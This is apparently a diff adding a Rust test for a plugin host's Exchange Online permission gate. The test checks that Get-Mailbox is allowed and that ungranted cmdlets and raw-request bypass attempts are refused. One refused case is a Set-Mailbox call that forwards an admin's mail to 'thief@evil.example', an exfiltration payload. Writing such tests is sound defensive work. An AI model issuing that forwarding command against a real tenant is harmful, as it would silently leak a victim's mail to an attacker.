@@ -127,3 +127,60 @@ async fn runaway_plugins_are_stopped_and_others_keep_working() {
     }
     s.finish().await;
 }
+
+#[tokio::test]
+async fn exchange_cmdlets_need_their_own_grant() {
+    let s = Server::start(Options::default().with_probe()).await;
+    let tenant = s.read("m365://health").await["tenant"]["tenantId"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    // Granted: Get-Mailbox reaches the tenant's Exchange with the host's token.
+    let ok = s
+        .ok("exo", json!({"cmdlet": "Get-Mailbox", "parameters": {"Identity": "admin@libertygoldsilver.com"}}))
+        .await;
+    assert_eq!(
+        ok["value"][0]["PrimarySmtpAddress"], "admin@libertygoldsilver.com",
+        "{ok}"
+    );
+    let seen = s.sandbox().get("/_sandbox/requests").await;
+    assert!(seen.to_string().contains("InvokeCommand"), "{seen}");
+
+    // Not granted: refused before anything is sent, naming the cmdlet.
+    s.sandbox().clear_requests().await;
+    let e = s
+        .err("exo", json!({"cmdlet": "Set-Mailbox", "parameters": {"Identity": "admin@libertygoldsilver.com", "ForwardingSmtpAddress": "smtp:thief@evil.example"}}))
+        .await;
+    assert_eq!(e["code"], "PLUGIN_001", "{e}");
+    assert!(
+        e["message"].as_str().unwrap().contains("Set-Mailbox"),
+        "{e}"
+    );
+    let seen = s.sandbox().get("/_sandbox/requests").await;
+    assert!(
+        !seen.to_string().contains("InvokeCommand"),
+        "sent anyway: {seen}"
+    );
+
+    // Raw requests around the cmdlet check: another tenant, another path,
+    // a GET, a body that is not a cmdlet.
+    let body = json!({"CmdletInput": {"CmdletName": "Get-Mailbox", "Parameters": {}}}).to_string();
+    let cases = [
+        ("POST", "https://outlook.office365.com/adminapi/beta/00000000-0000-0000-0000-000000000000/InvokeCommand".to_string(), body.clone(), "InvokeCommand"),
+        ("POST", format!("https://outlook.office365.com/adminapi/beta/{tenant}/Mailbox"), body.clone(), "InvokeCommand"),
+        ("GET", format!("https://outlook.office365.com/adminapi/beta/{tenant}/InvokeCommand"), String::new(), "InvokeCommand"),
+        ("POST", format!("https://outlook.office365.com/adminapi/beta/{tenant}/InvokeCommand"), "{\"CmdletInput\": {\"CmdletName\": \"Remove-Mailbox\"}}".into(), "Remove-Mailbox"),
+        ("POST", format!("https://outlook.office365.com/adminapi/beta/{tenant}/InvokeCommand"), "not json".into(), "not JSON"),
+    ];
+    for (method, url, body, named) in cases {
+        let e = s
+            .err("http", json!({"method": method, "url": url, "body": body, "headers": {"content-type": "application/json"}}))
+            .await;
+        assert_eq!(e["code"], "PLUGIN_001", "{method} {url}: {e}");
+        assert!(
+            e["message"].as_str().unwrap().contains(named),
+            "{method} {url}: {e}"
+        );
+    }
+    s.finish().await;
+}
